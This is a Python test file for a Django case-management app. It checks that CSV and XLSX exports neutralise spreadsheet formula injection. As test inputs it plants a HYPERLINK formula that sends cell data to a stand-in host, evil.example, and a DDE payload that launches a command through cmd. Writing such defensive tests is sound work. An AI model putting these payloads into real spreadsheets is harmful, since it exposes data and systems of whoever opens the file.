"""Exports: no CSV or XLSX cell Ura writes is a formula.

Every export is found two ways, so a new one is covered without editing this file: by its code
(a module of ours that imports a CSV or spreadsheet writer, or names a spreadsheet's content type,
must be `agencies.exports`, which neutralises every cell), and by its answer (every endpoint of the
endpoint table asked for an export, as the data protection officer and as the case owner: each
spreadsheet that comes back is read cell by cell).
"""

import csv
import io
from typing import Any

import pytest
from django.test import Client

from agencies.exports import FORMULA_STARTS, csv_lines, neutralise, xlsx_bytes
from agencies.models import Membership
from audit.services import record
from privacy.breakglass import break_glass
from tests.conftest import member
from tests.factories import AgencyFactory
from tests.test_endpoint_permissions import ENDPOINTS, World
from tests.test_endpoint_permissions import world as world
from tests.test_meta import OUR_APPS, _imported, _modules

pytestmark = pytest.mark.django_db

WRITERS = ("csv", "openpyxl", "xlsxwriter", "xlwt", "tablib", "pandas", "pyexcel", "odf")
CONTENT_TYPES = ("text/csv", "spreadsheetml", "ms-excel", "opendocument.spreadsheet")
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1, "Open")'


@pytest.mark.parametrize("lead", FORMULA_STARTS)
def test_a_cell_that_would_be_a_formula_is_text(lead: str) -> None:
    assert neutralise(lead + "1+1") == "'" + lead + "1+1"


@pytest.mark.parametrize("value", ["Gashi", "a-b", "1", 42, None, "'=already quoted", " =1"])
def test_other_cells_are_unchanged(value: Any) -> None:
    assert neutralise(value) == ("" if value is None else str(value))


def test_every_cell_of_a_csv_is_neutralised() -> None:
    lines = "".join(csv_lines(["=a", "b"], [["-1", "@x"], [-2, "\rz"]]))
    assert list(csv.reader(io.StringIO(lines))) == [["'=a", "b"], ["'-1", "'@x"], ["'-2", "'\rz"]]


def test_a_control_character_a_workbook_cannot_hold_is_left_out() -> None:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(xlsx_bytes([["Owner: \x0e\x0fAna", "ok"]])))
    assert [cell.value for cell in next(book.active.iter_rows())] == ["Owner: Ana", "ok"]


def test_only_the_export_helper_writes_spreadsheets() -> None:
    writers = []
    for app in OUR_APPS:
        for module, path in _modules(app):
            if module == "agencies.exports":
                continue
            imports = {name.split(".")[0] for name in _imported(module, path)}
            text = path.read_text()
            # The upload validator names spreadsheet types to recognise files, not to write them.
            named = [kind for kind in CONTENT_TYPES if kind in text and module != "cases.uploads"]
            if imports & set(WRITERS) or named:
                writers.append(module)
    assert writers == []


def _cells(response: Any) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if "spreadsheetml" in response.headers.get("Content-Type", ""):
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(body)).active
        return ["" if cell.value is None else str(cell.value) for row in sheet.iter_rows() for cell in row]
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def test_every_export_neutralises_what_users_typed(request: pytest.FixtureRequest) -> None:
    # given text a user controls, in the audit trail: a break-the-glass reason, a user name, details
    world: World = request.getfixturevalue("world")
    dpo = member(AgencyFactory(name="Data protection"), Membership.Role.DATA_PROTECTION_OFFICER, username="dpo")
    supervisor = member(AgencyFactory(name="Youth services"), Membership.Role.SUPERVISOR, username="@supervisor")
    break_glass(world.case, actor=supervisor, reason=HYPERLINK)
    record("access_denied", actor=supervisor, reason="+cmd|' /C calc'!A0", path="-2+3", note="\tsum")
    # when every endpoint of the table is asked for an export
    exports: dict[str, list[str]] = {}
    for user in (dpo, world.case.owner):
        for endpoint in ENDPOINTS:
            client = Client(raise_request_exception=False)
            client.force_login(user)
            for query in ({"export": "csv"}, {"format": "csv"}, {"format": "xlsx"}):
                response = client.get(endpoint.url(world), query)
                kind = response.headers.get("Content-Type", "")
                if response.status_code == 200 and any(content in kind for content in CONTENT_TYPES):
                    exports[endpoint.name] = _cells(response)
    # then the audit export is one of them, and no cell of any export is a formula
    assert "audit:auditevent_list" in exports
    assert "'" + HYPERLINK in exports["audit:auditevent_list"]
    for name, cells in exports.items():
        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == [], name
